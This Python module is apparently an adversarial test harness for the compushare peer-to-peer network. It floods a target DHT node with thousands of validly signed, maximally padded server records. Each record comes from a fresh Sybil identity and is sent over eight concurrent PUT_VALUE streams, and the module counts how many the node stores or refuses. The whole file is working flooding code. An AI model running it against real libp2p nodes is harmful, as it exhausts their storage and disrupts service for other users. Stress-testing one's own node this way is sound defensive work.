"""A DHT record flood: valid, signed server records, each from a fresh identity.

Each record is a well-formed `/csserver/<model>/<peer>` record (net/records.py) signed
by a new Ed25519 key, as large as validation allows (8 addresses of 255 characters),
with an expiry a day away. The records are sent straight to the target node with
PUT_VALUE over `/ipfs/kad/1.0.0`, from `host` (one sender), several streams at once.
Every record passes the node's validator; only a store bound keeps them out.

`counts` tallies "sybil_records" (sent), "sybil_records_stored" (the node echoed the
put: it stored the record) and "sybil_records_refused" (it reset the stream instead).
"""

from __future__ import annotations

import collections
import contextlib
import time

import trio
import varint
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.kad_dht.common import PROTOCOL_ID as KAD_PROTOCOL
from libp2p.kad_dht.pb.kademlia_pb2 import Message, Record
from libp2p.peer.id import ID
from libp2p.utils.varint import read_varint_prefixed_bytes_limited

from compushare.net.dial import dial
from compushare.net.records import MAX_ADDRS, ServerRecord, record_key

STREAMS = 8  # concurrent PUT_VALUE streams (the node serves 12 of one peer's)
REPLY_TIMEOUT_S = 10.0
RECORD_LIFE_S = 24 * 3600.0  # what each record claims; a node should not believe it


def sybil_record(model_id: str, *, pad: bool = True) -> tuple[bytes, bytes]:
    """(key, value) of a valid server record signed by a fresh identity."""
    key_pair = create_new_key_pair()
    peer = ID.from_pubkey(key_pair.public_key).to_base58()
    addr = f"/ip4/10.0.0.1/tcp/4001/p2p/{peer}"
    # parse_record only bounds addresses at 8 of < 256 characters: fill them.
    addrs = tuple(addr + "/" + "x" * (254 - len(addr)) for _ in range(MAX_ADDRS)) if pad else (addr,)
    record = ServerRecord(peer, model_id, 0, 1, "float32", addrs, expires=time.time() + RECORD_LIFE_S,
                          seq=time.time_ns(), throughput=1e6)
    return record_key(model_id, peer).encode(), record.sign(key_pair)


def put_message(key: bytes, value: bytes) -> bytes:
    message = Message(type=Message.MessageType.PUT_VALUE, key=key, record=Record(key=key, value=value))
    payload = message.SerializeToString()
    return varint.encode(len(payload)) + payload


async def flood_records(host, state: dict, model_id: str, counts: collections.Counter, *,
                        records: int = 5000, pad: bool = True) -> None:
    """PUT_VALUE `records` Sybil server records to the node `state` describes
    ({"peer_id": base58, "addrs": [...]}), STREAMS at a time; return when all are sent."""
    info = await dial(host, state["peer_id"], state["addrs"], timeout=10)
    left = [records]

    async def worker() -> None:
        stream = None
        while left[0] > 0:
            left[0] -= 1
            key, value = sybil_record(model_id, pad=pad)
            try:
                if stream is None:
                    with trio.fail_after(REPLY_TIMEOUT_S):
                        stream = await host.new_stream(info.peer_id, [KAD_PROTOCOL])
                counts["sybil_records"] += 1
                with trio.fail_after(REPLY_TIMEOUT_S):
                    await stream.write(put_message(key, value))
                    reply = Message()
                    reply.ParseFromString(await read_varint_prefixed_bytes_limited(stream, 1 << 20))
                counts["sybil_records_stored" if reply.key == key else "sybil_records_refused"] += 1
            except trio.TooSlowError:
                counts["sybil_records_timeout"] += 1
                stream = await _drop(stream)
            except Exception:  # the node reset the stream: it refused the record
                counts["sybil_records_refused"] += 1
                stream = await _drop(stream)
        await _drop(stream)

    async with trio.open_nursery() as nursery:
        for _ in range(STREAMS):
            nursery.start_soon(worker)


async def _drop(stream) -> None:
    if stream is not None:
        with contextlib.suppress(Exception):
            await stream.reset()
    return None


async def attack(host, state: dict, model_id: str, counts: collections.Counter) -> None:
    """Flood until cancelled (a pause between rounds if the node is unreachable)."""
    while True:
        try:
            await flood_records(host, state, model_id, counts, records=1000)
        except Exception:
            counts["sybil_records_dial_failed"] += 1
            await trio.sleep(1.0)
